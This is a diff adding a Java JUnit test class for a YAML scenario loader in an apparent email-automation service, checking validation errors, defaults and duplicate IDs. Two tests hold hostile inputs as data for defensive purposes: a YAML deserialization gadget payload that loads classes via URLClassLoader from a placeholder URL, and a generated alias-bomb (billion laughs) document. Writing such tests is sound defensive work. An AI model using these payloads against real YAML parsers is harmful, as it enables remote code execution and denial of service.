@@ -1,0 +1,126 @@
+package io.lifecyclemail.decision.scenario;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.assertj.core.api.Assertions.catchThrowableOfType;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class ScenarioLoaderTest {
+    static final String VALID = """
+            apiVersion: lifecyclemail.io/v1
+            kind: CartAbandonment
+            metadata:
+              id: cart-2h
+              version: 3
+            spec:
+              wait: 2h
+              template: cart-abandonment
+            """;
+
+    @Test
+    void bindsAValidFileWithDefaults() {
+        CartAbandonmentScenario scenario = (CartAbandonmentScenario) ScenarioLoader.parse("cart.yaml", VALID);
+        assertThat(scenario.id()).isEqualTo("cart-2h");
+        assertThat(scenario.version()).isEqualTo(3);
+        assertThat(scenario.delay()).isEqualTo(Duration.ofHours(2));
+        assertThat(scenario.maxItems()).isEqualTo(10);
+        assertThat(scenario.enabled()).isTrue();
+    }
+
+    @Test
+    void namesFileLineFieldAndWhatIsAllowed() {
+        String text = VALID.replace("wait: 2h", "wait: 2 hours");
+        InvalidScenarioException error = catchThrowableOfType(InvalidScenarioException.class,
+                () -> ScenarioLoader.parse("cart.yaml", text));
+        assertThat(error.problems()).singleElement().satisfies(problem -> {
+            assertThat(problem.file()).isEqualTo("cart.yaml");
+            assertThat(problem.line()).isEqualTo(7);
+            assertThat(problem.field()).isEqualTo("spec.wait");
+            assertThat(problem.message()).contains("'2 hours'").contains("45m");
+        });
+        assertThat(error.getMessage()).startsWith("cart.yaml:7: spec.wait: ");
+    }
+
+    @Test
+    void reportsEveryProblemNotOnlyTheFirst() {
+        String text = VALID.replace("wait: 2h", "wait: 90d").replace("id: cart-2h", "id: Cart 2h")
+                + "  colour: red\n";
+        InvalidScenarioException error = catchThrowableOfType(InvalidScenarioException.class,
+                () -> ScenarioLoader.parse("cart.yaml", text));
+        assertThat(error.problems()).extracting(ScenarioProblem::field)
+                .containsExactlyInAnyOrder("metadata.id", "spec.wait", "spec.colour");
+        assertThat(error.problems()).filteredOn(p -> p.field().equals("spec.colour")).singleElement()
+                .satisfies(p -> assertThat(p.message()).contains("allowed here: wait, template, maxItems"));
+    }
+
+    @Test
+    void rejectsUnknownKindListingTheKnownOnes() {
+        assertThatThrownBy(() -> ScenarioLoader.parse("x.yaml", VALID.replace("CartAbandonment", "Birthdays")))
+                .isInstanceOf(InvalidScenarioException.class)
+                .hasMessageContaining("x.yaml:2: kind: 'Birthdays' is not allowed; expected one of CartAbandonment");
+    }
+
+    @Test
+    void rejectsMissingRequiredFields() {
+        String text = VALID.replace("  template: cart-abandonment\n", "");
+        assertThatThrownBy(() -> ScenarioLoader.parse("x.yaml", text))
+                .hasMessageContaining("spec.template: is required");
+    }
+
+    @Test
+    void rejectsBrokenYamlWithItsLine() {
+        assertThatThrownBy(() -> ScenarioLoader.parse("x.yaml", "apiVersion: [unclosed\nkind: x\n"))
+                .isInstanceOf(InvalidScenarioException.class)
+                .hasMessageContaining("x.yaml:")
+                .hasMessageContaining("not valid YAML");
+    }
+
+    @Test
+    void neverConstructsObjectsFromTags() {
+        String payload = VALID.replace("template: cart-abandonment",
+                "template: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]");
+        assertThatThrownBy(() -> ScenarioLoader.parse("evil.yaml", payload))
+                .isInstanceOf(InvalidScenarioException.class)
+                .hasMessageContaining("spec.template");
+    }
+
+    @Test
+    void refusesAliasBombs() {
+        StringBuilder bomb = new StringBuilder("a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\n");
+        for (char c = 'b'; c <= 'z'; c++) {
+            char prev = (char) (c - 1);
+            bomb.append(c).append(": &").append(c).append(" [");
+            for (int i = 0; i < 9; i++) {
+                bomb.append(i == 0 ? "" : ",").append('*').append(prev);
+            }
+            bomb.append("]\n");
+        }
+        assertThatThrownBy(() -> ScenarioLoader.parse("bomb.yaml", bomb.toString()))
+                .isInstanceOf(InvalidScenarioException.class)
+                .hasMessageContaining("bomb.yaml");
+    }
+
+    @Test
+    void idsMustBeUniqueAcrossFiles(@TempDir Path folder) throws Exception {
+        Files.writeString(folder.resolve("a.yaml"), VALID);
+        Files.writeString(folder.resolve("b.yaml"), VALID.replace("version: 3", "version: 4"));
+        assertThatThrownBy(() -> ScenarioLoader.loadDirectory(folder))
+                .hasMessageContaining("b.yaml")
+                .hasMessageContaining("'cart-2h' is already used by")
+                .hasMessageContaining("a.yaml");
+    }
+
+    @Test
+    void loadsEveryShippedScenario() {
+        Path shipped = Path.of("../../deploy/scenarios");
+        List<Scenario> scenarios = ScenarioLoader.loadDirectory(shipped);
+        assertThat(scenarios).isNotEmpty();
+        assertThat(ScenarioLoader.loadBundled()).containsExactlyElementsOf(scenarios);
+    }
+}
